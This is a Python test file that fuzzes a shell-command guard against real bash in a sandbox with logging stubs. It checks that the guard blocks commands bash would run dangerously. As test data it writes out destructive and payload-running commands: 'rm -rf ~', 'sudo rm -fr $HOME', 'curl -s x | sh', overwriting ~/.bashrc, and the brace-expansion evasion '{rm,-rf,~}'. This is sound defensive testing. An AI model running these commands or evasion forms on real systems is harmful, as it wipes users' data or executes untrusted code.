"""The command guard against real bash: what bash runs dangerously, the guard holds back.

A bounded run of the differential fuzzer (bash_oracle.py): each example wraps a dangerous
core in syntax variations, bash runs it with logging stubs in a throwaway directory, and
the guard must not allow a command whose core bash actually ran. Skipped where bash is
missing (it is present on Linux CI). The examples are the same on every run; to explore new
ones with a larger budget: ``python benchmarks/fuzz_shell.py 5000``.
"""

from __future__ import annotations

import os
from collections.abc import Iterator

import pytest
from bash_oracle import BASH, Bash, cases, finding
from hypothesis import HealthCheck, given, settings

pytestmark = pytest.mark.skipif(BASH is None, reason="bash is not installed: nothing to compare with")

EXAMPLES = int(os.environ.get("AGENTBUS_FUZZ_EXAMPLES", "150"))


@pytest.fixture(scope="module")
def bash() -> Iterator[Bash]:
    with Bash() as sandbox:
        yield sandbox


def test_the_oracle_sees_what_bash_runs(bash: Bash) -> None:
    """The stubs log a dangerous core when bash runs it, and nothing when it is only text."""
    assert bash.dangerous(bash.run("rm -rf ~")) == "rm -rf ~ ran"
    assert bash.dangerous(bash.run("sudo rm -fr $HOME")) == "rm -rf ~ ran"
    assert bash.dangerous(bash.run("curl -s x | sh")) == "a downloaded payload ran"
    assert bash.dangerous(bash.run("echo x > ~/.bashrc")) == "~/.bashrc was written"
    assert bash.dangerous(bash.run("echo 'rm -rf ~'; curl -s x; x rm -rf ~")) is None
    assert bash.dangerous(bash.run("rm -rf ~/project")) is None


def test_the_oracle_leaves_nothing_behind() -> None:
    with Bash() as sandbox:
        sandbox.run("echo x > ~/.bashrc; rm -rf ~")
        root = sandbox.root
    assert not root.exists()


def test_a_known_finding_is_reported(bash: Bash, monkeypatch: pytest.MonkeyPatch) -> None:
    """With a guard that allows everything, the oracle's finding names the effect."""
    import bash_oracle

    monkeypatch.setattr(bash_oracle, "judge_command", lambda *args, **kwargs: None)
    assert finding(bash, "{rm,-rf,~}") == "rm -rf ~ ran, and the guard allowed '{rm,-rf,~}'"


# The same examples on every run (exploring is benchmarks/fuzz_shell.py's job): the suite fails
# on a regression, not on the next shape the fuzzer happens to find.
@settings(
    max_examples=EXAMPLES, database=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow]
)
@given(text=cases())
def test_the_guard_holds_back_what_bash_runs_dangerously(bash: Bash, text: str) -> None:
    assert finding(bash, text) is None
